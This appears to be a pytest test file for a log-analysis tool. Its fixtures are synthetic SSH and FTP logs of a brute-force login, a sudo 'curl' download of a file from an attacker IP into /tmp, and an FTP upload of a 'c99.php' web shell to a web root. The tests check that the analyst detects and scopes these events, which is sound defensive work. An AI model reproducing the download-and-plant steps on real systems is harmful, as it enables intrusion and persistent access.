"""A question about one file, or about one person, is answered by what was found there, not by the rest."""

from __future__ import annotations

import pytest

from svc.messages import AnswerStatus
from tests.support.inline_analyst import ask

AUTH = (
    b"Nov 20 03:10:01 web1 sshd[100]: Failed password for root from 203.0.113.50 port 51000 ssh2\n"
    b"Nov 20 03:10:03 web1 sshd[100]: Failed password for root from 203.0.113.50 port 51001 ssh2\n"
    b"Nov 20 03:10:09 web1 sshd[100]: Failed password for admin from 203.0.113.50 port 51002 ssh2\n"
    b"Nov 20 03:12:09 web1 sshd[101]: Accepted password for root from 203.0.113.50 port 51010 ssh2\n"
    b"Nov 20 03:13:09 web1 sudo: root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://203.0.113.50/x\n"
    b"Nov 20 08:00:00 web1 sshd[200]: Accepted publickey for alice from 10.0.0.9 port 40000 ssh2\n"
)
FTP = (
    b'Fri Nov 20 03:09:06 2026 [pid 2] [admin] OK LOGIN: Client "203.0.113.50"\n'
    b'Fri Nov 20 03:09:10 2026 [pid 2] [admin] OK UPLOAD: Client "203.0.113.50", "/var/www/html/c99.php", 1400 bytes\n'
)
FILES = (("auth.log", AUTH), ("logs/vsftpd.log", FTP))


@pytest.mark.parametrize("question", ["Is anything suspicious in vsftpd.log?", "anything weird in vsftpd.log"])
async def test_a_question_about_one_file_is_answered_by_it_alone(question: str):
    first = (await ask(question, *FILES)).markdown.partition("\n")[0]
    assert "Possible web shell uploaded" in first
    assert "root" not in first
    assert first.endswith("This is about `logs/vsftpd.log` alone.")


async def test_the_files_name_does_not_narrow_what_is_looked_for():
    first = (await ask("is anything suspicious in auth.log", *FILES)).markdown.partition("\n")[0]
    assert "Download piped to a shell" in first
    assert "web shell" not in first


async def test_a_file_that_is_not_there_is_not_answered_by_another():
    answer = await ask("is anything suspicious in secure.log?", *FILES)
    assert answer.markdown.startswith(
        "**Cannot tell** `is anything suspicious in secure.log`: no input is named secure.log."
    )
    assert answer.answer.status is AnswerStatus.NOT_ANSWERED


async def test_a_file_that_no_tool_judged_is_not_answered_by_another():
    notes = b"2026-11-20 10:00:00 Release 1.2 of the shop was published by the team\n2026-11-21 11:00:00 It was new\n"
    markdown = (await ask("anything weird in release.txt?", ("release.txt", notes), *FILES)).markdown
    assert markdown.startswith("**Cannot tell** `anything weird in release.txt`: no tool for its kind of content read")


async def test_who_logged_in_according_to_a_file_is_a_question_about_logins():
    markdown = (await ask("who logged in according to auth.log", ("auth.log", AUTH))).markdown
    assert markdown.startswith("**2 logins were accepted: `root` from")


@pytest.mark.parametrize("name", ["alice", "bob"])
async def test_what_others_did_is_no_answer_about_a_person(name: str):
    first = (await ask(f"did {name} do anything suspicious?", ("auth.log", AUTH))).markdown.partition("\n")[0]
    assert first.startswith(f"**Cannot tell** `did {name} do anything suspicious`")
    first = (await ask("did root do anything suspicious?", ("auth.log", AUTH))).markdown.partition("\n")[0]
    assert first.startswith("**Possibly:**")


@pytest.mark.parametrize(
    "question", ["which accounts had no failures?", "who has no failed logins", "accounts with no failed logins"]
)
async def test_who_has_none_is_not_answered_by_who_has_some(question: str):
    first = (await ask(question, ("auth.log", AUTH))).markdown.partition("\n")[0]
    assert first.startswith("**1 account: `alice`** of 3 has no record of failed logins")


@pytest.mark.parametrize("question", ["what happened between 2 and 3 am?", "what changed between 2 and 3 am"])
async def test_records_outside_of_the_time_were_read(question: str):
    record = '{"time": "2026-03-02T08:0%d:00Z", "user": "ann", "action": "user.login", "ip": "192.0.2.10"}\n'
    markdown = (await ask(question, ("a.jsonl", "".join(record % k for k in range(9)).encode()))).markdown
    assert "**None of the 9 events read is from 02:00 to 03:00**" in markdown
    assert "indicators" not in markdown


async def test_a_login_after_failures_is_not_said_to_be_missing():
    lines = (await ask("was there a brute force and did it work?", ("auth.log", AUTH))).markdown.splitlines()
    assert "`did it work`: **Possibly:** `root logged in from 203.0.113.50" in "\n".join(lines)


@pytest.mark.parametrize("question", ["which commands were run?", "what did root run"])
async def test_a_message_of_the_log_is_no_command(question: str):
    first = (await ask(question, ("auth.log", AUTH))).markdown.partition("\n")[0]
    assert "/usr/bin/curl -o /tmp/x" in first
    assert "Accepted password" not in first
